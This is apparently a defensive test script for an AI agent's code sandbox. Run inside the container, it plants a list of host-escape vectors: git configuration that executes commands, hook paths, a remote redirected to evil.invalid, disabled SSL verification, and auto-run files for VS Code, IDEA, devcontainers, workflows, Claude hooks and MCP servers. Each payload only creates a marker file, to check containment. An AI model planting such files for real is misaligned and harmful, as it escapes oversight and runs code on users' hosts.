#!/bin/sh
# Run inside the container as the agent (bin/code-sandbox -- sh THIS MARKS
# REMOTE): plants every host pivot of issue 13 with plain writes and the
# container's own git. Each payload would create MARKS/<name> on the host.
# Prints NAME=RESULT lines for what the container itself refused.
M=$1
REMOTE=$2
G=/usr/bin/git
cd /workspace || exit 1
r() { printf '%s=%s\n' "$1" "$2"; }

# Hooks: read-only; the git directory cannot be moved aside.
if printf '#!/bin/sh\ntouch %s/hook\n' "$M" >.git/hooks/pre-commit 2>/dev/null; then r hook_write ok; else r hook_write refused; fi
if mv .git .git-moved 2>/dev/null; then r git_moved ok; mv .git-moved .git; else r git_moved refused; fi
if rm -rf .git/hooks 2>/dev/null; then r hooks_removed ok; else r hooks_removed refused; fi

# Configuration that executes (each family of the issue).
$G config core.fsmonitor "touch $M/fsmonitor; false"
mkdir -p evilhooks
printf '#!/bin/sh\ntouch %s/hookspath\n' "$M" >evilhooks/pre-commit
chmod +x evilhooks/pre-commit
$G config core.hooksPath evilhooks
$G config core.editor "touch $M/editor; true"
$G config core.pager "touch $M/pager; cat"
$G config core.askPass "touch $M/askpass"
$G config core.gitProxy "touch $M/gitproxy"
$G config core.sshCommand "touch $M/ssh; false"
$G config url."ssh://evil.invalid/r.git".insteadOf "$REMOTE"
$G config remote.origin.uploadpack "touch $M/uploadpack; git-upload-pack"
$G config remote.origin.receivepack "touch $M/receivepack; git-receive-pack"
$G config credential.helper "!touch $M/credential; true"
$G config gpg.program "touch $M/gpg"
$G config diff.external "touch $M/diffexternal; true"
$G config diff.evil.textconv "touch $M/textconv; cat"
$G config merge.evil.driver "touch $M/merge; false"
$G config filter.evil.clean "touch $M/filter; cat"
$G config filter.evil.smudge cat
$G config alias.st2 "!touch $M/alias"
printf '[alias]\n\tst3 = !touch %s/include\n' "$M" >evil.gitconfig
$G config --add include.path ../evil.gitconfig
$G config includeIf."gitdir:/".path ../evil.gitconfig
$G config submodule.lib.update "!touch $M/submodule"
$G config http.proxy http://198.51.100.1:9
$G config http.sslVerify false
$G config protocol.ext.allow always

# Files host tools run on their own.
printf 'touch %s/envrc\n' "$M" >.envrc
mkdir -p .vscode .idea/runConfigurations .devcontainer .github/workflows .claude
printf '{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "touch %s/vscode-task", "runOptions": {"runOn": "folderOpen"}}]}\n' "$M" >.vscode/tasks.json
printf '{"terminal.integrated.profiles.linux": {"x": {"path": "/bin/sh", "args": ["-c", "touch %s/vscode-settings"]}}}\n' "$M" >.vscode/settings.json
printf '<component name="ProjectRunConfigurationManager"><configuration name="x" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="touch %s/idea" /></configuration></component>\n' "$M" >.idea/runConfigurations/x.xml
printf '{"image": "debian", "postCreateCommand": "touch %s/devcontainer"}\n' "$M" >.devcontainer/devcontainer.json
printf '* filter=evil\n*.txt diff=evil\n' >.gitattributes
printf '[submodule "lib"]\n\tpath = lib\n\turl = ../lib\n\tupdate = !touch %s/gitmodules\n' "$M" >.gitmodules
printf 'on: push\njobs: {x: {runs-on: any, steps: [{run: "touch %s/workflow"}]}}\n' "$M" >.github/workflows/x.yml
printf '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "touch %s/claude"}]}]}}\n' "$M" >.claude/settings.json
printf '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "touch %s/mcp"]}}}\n' "$M" >.mcp.json
printf '* diff=evil\n' >.git/info/attributes
r "done" yes
